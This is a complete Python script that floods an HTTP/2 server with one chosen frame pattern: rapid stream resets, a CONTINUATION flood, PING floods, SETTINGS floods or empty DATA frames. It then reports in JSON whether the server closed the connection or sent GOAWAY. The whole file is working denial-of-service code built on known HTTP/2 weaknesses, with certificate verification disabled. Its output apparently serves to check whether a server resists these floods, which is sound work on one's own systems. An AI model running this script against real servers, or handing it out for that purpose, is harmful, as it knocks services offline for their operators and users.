"""Floods a server with what HTTP/2 lets a client send for nothing, frame by frame, and prints how that ended as JSON.

usage: http2_flood.py HOST PORT (resets|continuation|pings|settings|empty)

{ "sent": frames, "closed": whether the server closed the connection, "goaway": its error code or null }
"""

import json
import socket
import ssl
import struct
import sys

MOST = 20_000
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(host):
    """GET / by HPACK's static table; the authority as a literal. RFC 7541, appendix A."""
    return bytes([0x82, 0x84, 0x87, 0x01, len(host)]) + host.encode()


def frames(kind, host):
    for number in range(MOST):
        stream = 2 * number + 1
        if kind == "resets":
            yield frame(HEADERS, END_STREAM | END_HEADERS, stream, head(host)) + frame(
                RST_STREAM, 0, stream, struct.pack(">I", 8)
            )
        elif kind == "continuation":
            yield frame(HEADERS, END_STREAM, 1, head(host)) if number == 0 else frame(
                CONTINUATION, 0, 1, b"\x00\x03x-a\x40" + b"a" * 64
            )
        elif kind == "pings":
            yield frame(PING, 0, 0, b"12345678")
        elif kind == "settings":
            yield frame(SETTINGS, 0, 0)
        elif kind == "empty":
            yield frame(HEADERS, END_HEADERS, 1, head(host).replace(b"\x82", b"\x83")) if number == 0 else frame(
                DATA, 0, 1
            )


def main(host, port, kind):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection((host, int(port)), timeout=60))
    assert connection.selected_alpn_protocol() == "h2"
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    sent, received, closed = 0, b"", False
    connection.settimeout(0.01)
    try:
        for number, piece in enumerate(frames(kind, host)):
            connection.settimeout(60)
            connection.sendall(piece)
            sent += 1
            if number % 50 == 49:
                connection.settimeout(0.001)
                try:
                    more = connection.recv(65536)
                    received += more
                    if not more:
                        closed = True
                        break
                except (TimeoutError, ssl.SSLWantReadError):
                    pass
        connection.settimeout(20)
        while not closed:
            more = connection.recv(65536)
            received += more
            closed = not more
    except TimeoutError:
        pass
    except OSError:
        closed = True
    goaway = None
    while len(received) >= 9:
        size, kind = int.from_bytes(received[:3], "big"), received[3]
        if kind == GOAWAY and len(received) >= 17:
            goaway = int.from_bytes(received[13:17], "big")
        received = received[9 + size :]
    print(json.dumps({"sent": sent, "closed": closed, "goaway": goaway}))


main(*sys.argv[1:])
